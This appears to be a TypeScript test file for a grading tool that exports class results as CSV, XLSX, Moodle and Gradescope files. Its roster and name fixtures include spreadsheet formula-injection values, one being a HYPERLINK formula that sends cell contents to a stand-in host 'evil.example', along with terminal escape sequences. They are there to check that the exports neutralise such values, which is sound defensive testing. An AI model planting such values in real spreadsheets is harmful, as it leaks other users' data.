import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import type { Result } from '../../../src/actions/grade/result.ts';
import { sameAs } from '../../../src/actions/grade/trouble.ts';
import { classCsv } from '../../../src/report/class-formats.ts';
import { BYTE_ORDER_MARK } from '../../../src/report/grades/csv.ts';
import { gradescopeFiles } from '../../../src/report/grades/gradescope.ts';
import { classMoodle } from '../../../src/report/grades/moodle.ts';
import { rosterLines } from '../../../src/report/grades/rows.ts';
import { classXlsx } from '../../../src/report/grades/xlsx.ts';
import type { Person } from '../../../src/report/reporter.ts';
import { CLASS, classWith, RESULT } from './sample-class.ts';
import { CHINESE, ENGLISH } from './sample.ts';

const person = (id: string, name: string, email = `${id}@example.edu`, group = '一班'): Person => ({
  id,
  name,
  email,
  group,
});

/** Zhang handed in nothing, and eve is not in it. */
const ROSTER = [
  person('Carol', 'Carol "C", Jr.'),
  person('zhang', '张三'),
  person('alice', '李雷'),
  person('bob', '=HYPERLINK("http://evil.example/?"&A1,"Bob")', ''),
  person('dave', '韩梅梅'),
];

const NAMES = [
  'Lee, Ann',
  'Ann "Bee" Lee',
  '李雷',
  '=HYPERLINK("http://evil.example","x")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '＝1+1',
  '_x0041_',
  '<b>&amp;',
];

const cells = (csv: string): string[][] => parse(csv);
const submissions = (changes: Partial<Result>[]) => ({
  ...CLASS,
  submissions: changes.map((one) => ({ ...RESULT, ...one })),
});

describe('the table of grades', () => {
  it('has students in the order of the roster, those without a submission too, then submissions of nobody in it', () => {
    const [heading, ...rows] = cells(classCsv(CLASS, { ...ENGLISH, roster: ROSTER }));
    expect(heading?.slice(0, 9).join(' ')).to.equal('id name email group submission student state points maxPoints');
    expect(rows.map(([id, , , , submission, , state, points]) => [id, submission, state, points])).to.deep.equal([
      ['Carol', 'carol', 'timed-out', '3'],
      ['zhang', '', 'not-handed-in', 'not handed in'],
      ['alice', 'alice', 'judged', '3'],
      ['bob', 'bob', 'judged', '28'],
      ['dave', 'dave', 'not-judged', 'not judged'],
      ['', 'eve', 'invalid', '0'],
    ]);
    expect(rows[0]?.[1]).to.equal('Carol "C", Jr.');
    expect(rows[3]?.[1]).to.equal(`'=HYPERLINK("http://evil.example/?"&A1,"Bob")`);
  });

  it('has no column of the roster without one', () => {
    expect(cells(classCsv(CLASS, ENGLISH))[0]?.slice(0, 3)).to.deep.equal(['submission', 'student', 'state']);
  });

  it('says in Chinese that there is nothing', () => {
    expect(classCsv(CLASS, { ...CHINESE, roster: ROSTER })).to.include(',not-handed-in,未提交,28,');
  });
});

describe('the XLSX of a class', () => {
  it('has the cells of the CSV, numbers as numbers, and no number where nothing was judged', async () => {
    const rows = await readSheet(await classXlsx(CLASS, { ...CHINESE, roster: ROSTER }));
    const csv = cells(classCsv(CLASS, { ...CHINESE, roster: ROSTER }));
    const text = rows.map((row) => row.map((cell) => (cell === null ? '' : String(cell))));
    // A spreadsheet reads CSV as formulas, for which it has the apostrophe. XLSX has text as text.
    expect(text).to.deep.equal(csv.map((row) => row.map((cell) => cell.replace(/^'(?==)/, ''))));
    expect(rows.map((row) => row[7])).to.deep.equal(['points', 3, '未提交', 3, 28, '未判定', 0]);
  });

  // A formula would be read back as nothing, because no program has computed it.
  for (const name of NAMES)
    it(`has the name ${name} as text`, async () => {
      const rows = await readSheet(await classXlsx(classWith({ student: name }), ENGLISH));
      expect(rows[1]?.[1]).to.equal(name);
    });

  it('has nothing that XML cannot hold, and no cell that Excel refuses', async () => {
    const student = 'a\nb\u0000\u001b[2J\ud800\uffff';
    const trouble = { code: 'DISK' as const, text: { en: 'x'.repeat(40_000), zh: '' } };
    const rows = await readSheet(await classXlsx(classWith({ student, trouble }), ENGLISH));
    expect(rows[1]?.[1]).to.equal('a?b??[2J');
    expect(rows[1]?.find((cell) => String(cell).startsWith('xxx'))).to.have.length(32_767);
  });
});

describe("Moodle's CSV", () => {
  it('has a row for each student of the roster who has points, with e-mail and id', () => {
    const [heading, ...rows] = cells(classMoodle(CLASS, { ...ENGLISH, roster: ROSTER }));
    expect(heading).to.deep.equal(['ID number', 'Email address', 'Full name', 'exp1', 'Feedback']);
    expect(rows.map((row) => row.slice(0, 4))).to.deep.equal([
      ['Carol', 'Carol@example.edu', 'Carol "C", Jr.', '3'],
      ['alice', 'alice@example.edu', '李雷', '3'],
      ['bob', '', `'=HYPERLINK("http://evil.example/?"&A1,"Bob")`, '28'],
    ]);
  });

  it('has the names of files as ids without a roster', () => {
    const [heading, ...rows] = cells(classMoodle(CLASS, ENGLISH));
    expect(heading).to.deep.equal(['ID number', 'Full name', 'exp1', 'Feedback']);
    expect(rows.map(([id, , points]) => [id, points])).to.deep.equal([
      ['alice', '3'],
      ['bob', '28'],
      ['carol', '3'],
      ['eve', '0'],
    ]);
  });

  it('says why in one line, and nothing of other students', () => {
    const [, row] = cells(classMoodle(classWith({ notes: [sameAs(['eve'])] }), ENGLISH));
    expect(row?.[3]).to.equal(
      'not passed: The director alone answers ARP. fails at: who answers ARP for the VIP (vip-owner), web01; actual: web01 answers ARP for 192.168.0.240 too; expected: lvs01 alone answers ARP for 192.168.0.240',
    );
    const [, late] = cells(classMoodle({ ...CLASS, submissions: CLASS.submissions.slice(2, 3) }, CHINESE));
    expect(late?.[3]).to.match(/120 秒.*未通过: 只有调度器应答 ARP/);
  });

  it('has no line break in a cell', () => {
    const csv = classMoodle(classWith({ submission: 'a\r\nb', student: 'c\nd' }), ENGLISH);
    expect(csv.split('\r\n')).to.have.length(2);
    expect(csv).to.not.match(/[^\r]\n/);
  });

  it('has nobody of whom there are two submissions', () => {
    const twice = submissions([{ submission: 'li' }, { submission: 'LI', points: 28 }, { submission: 'bo' }]);
    expect(cells(classMoodle(twice, ENGLISH)).map(([id]) => id)).to.deep.equal(['ID number', 'bo']);
  });
});

describe("Gradescope's results", () => {
  const files = gradescopeFiles(CLASS, { ...ENGLISH, hints: 1 });
  const [alice] = files.map(({ text }) => JSON.parse(text ?? 'null') as Record<string, unknown>);

  it('have a score, and each check with its points and why it did not pass', () => {
    expect(alice).to.include({ score: 3, execution_time: 10, output_format: 'text', visibility: 'visible' });
    expect(alice?.['output']).to.match(/^fails at: who answers ARP for the VIP \(vip-owner\), web01\n/);
    expect(alice?.['tests']).to.deep.equal([
      {
        name: 'vip-director: The director has the VIP',
        score: 3,
        max_score: 3,
        status: 'passed',
        output: '',
      },
      {
        name: 'arp-vip: The director alone answers ARP',
        score: 0,
        max_score: 10,
        status: 'failed',
        output:
          'web01 also answers ARP for 192.168.0.240; only lvs01 may\nlanclient: who has 192.168.0.240? 02:42:c0:a8:00:df (web01)',
      },
      {
        name: 'page-lan: The LAN client gets pages',
        score: 0,
        max_score: 15,
        status: 'failed',
        output: 'not judged, because "The director alone answers ARP" (arp-vip) did not pass',
      },
    ]);
  });

  it('are there for all that have points, and say what was wrong', () => {
    const scores = files.map(({ submission, text }) => [
      submission,
      text === undefined ? undefined : (JSON.parse(text) as { score: number }).score,
    ]);
    expect(scores).to.deep.equal([
      ['alice', 3],
      ['bob', 28],
      ['carol', 3],
      ['dave', undefined],
      ['eve', 0],
    ]);
    expect(files[2]?.text).to.include('its commands did not end within 120 s');
    expect(files[4]?.text).to.include('got no tar.gz archive');
  });

  it('have nothing of other students, and no control characters', () => {
    expect(files[1]?.text).to.not.include('eve');
    const title = { en: 'a\u001b[2J', zh: '' };
    const checks = RESULT.checks.map((verdict) => ({ ...verdict, title, evidence: ['\u001b]0;x\u0007'] }));
    const [file] = gradescopeFiles(classWith({ checks }), ENGLISH);
    expect(file?.text).to.include('\ufffd[2J').and.to.not.include('\\u00').and.to.not.include('\u001b');
  });

  it('are there for none of two submissions of one name', () => {
    const twice = submissions([{ submission: 'li' }, { submission: 'li', points: 28 }, { submission: 'bo' }]);
    const found = gradescopeFiles(twice, ENGLISH).map(({ submission, text }) => [submission, text !== undefined]);
    expect(found).to.deep.equal([
      ['bo', true],
      ['li', false],
    ]);
  });
});

describe('what the teacher is told of a roster', () => {
  it('is who handed in nothing, what belongs to nobody, and which name is there twice', () => {
    expect(rosterLines(CLASS, ROSTER)).to.deep.equal([
      'without a submission: zhang',
      "not in the roster, and so not in moodle.csv: eve; expected the student's id as the name",
    ]);
    expect(rosterLines(submissions([{ submission: 'li' }, { submission: 'li' }]), undefined)).to.deep.equal([
      'more than one submission of this name, and so neither in moodle.csv nor in gradescope/: li',
    ]);
    expect(rosterLines(CLASS, undefined)).to.deep.equal([]);
  });
});

describe('the byte order mark', () => {
  it('is that of UTF-8', () => {
    expect(Buffer.from(BYTE_ORDER_MARK).toString('hex')).to.equal('efbbbf');
  });
});
